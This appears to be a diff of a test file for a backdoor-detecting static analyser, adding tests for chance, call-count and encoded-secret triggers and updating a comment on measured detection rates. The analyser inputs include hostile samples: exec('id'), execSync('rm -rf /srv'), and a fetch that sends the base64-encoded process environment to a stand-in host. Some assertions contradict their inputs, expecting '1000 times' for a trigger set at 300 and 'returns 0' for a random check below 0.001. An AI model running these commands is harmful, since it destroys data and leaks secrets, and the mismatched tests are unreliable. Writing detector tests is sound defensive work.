@@ -43,6 +43,15 @@ test('a time bomb is found by moving the virtual clock', async () => {
   assert.match(r.findings[0].message, /the date is after 2027-03-01/);
 });
 
+test('chance and call-count triggers are explored, and encoded secrets are decoded', async () => {
+  const random = await analyze("function h(req, res) { if (Math.random() < 0.001) require('child_process').exec('id'); res.end(); }");
+  assert.match(random.findings[0]?.message ?? '', /only when Math\.random\(\) returns 0/);
+  const counted = await analyze("let n = 0;\nfunction h() { if (++n > 300) require('child_process').execSync('rm -rf /srv'); return n; }");
+  assert.match(counted.findings[0]?.message ?? '', /only when it has been called 1000 times/);
+  const encoded = await analyze("function t() { fetch('https://a.example.com/t', { headers: { x: Buffer.from(JSON.stringify(process.env)).toString('base64') } }); }");
+  assert.deepEqual(encoded.findings.map((f) => f.ruleId), ['concealed-effect']);
+});
+
 test('benign use of network, files and processes is not reported', async () => {
   const r = await analyze(`const { execFile } = require('child_process');
 function thumb(file, cb) { execFile('convert', [file, 'out.png'], cb); }
@@ -89,8 +98,9 @@ test('detection and false-positive rates on the backdoor fixtures stay at their 
   assert.ok(e.backdoored >= 30 && e.benign >= 30);
   const missed = e.results.filter((r) => r.group === 'backdoored' && !r.flagged).map((r) => r.name);
   const flagged = e.results.filter((r) => r.group === 'benign' && r.flagged).map((r) => r.name);
-  // Measured: 33/33 detected; 2/33 benign flagged (a first-of-month report and an opt-in
-  // telemetry switch, which look exactly like a date and an environment trigger).
+  // Measured: 40/41 detected (the miss beacons only when CI is unset, to a host named in the
+  // source); 2/41 benign flagged (a first-of-month report and an opt-in telemetry switch, which
+  // look exactly like a date and an environment trigger).
   assert.ok(e.detection >= 0.95, `detection ${e.detection}; missed ${missed.join(', ')}`);
   assert.ok(e.falsePositives <= 0.07, `false positives ${e.falsePositives}: ${flagged.join(', ')}`);
 });
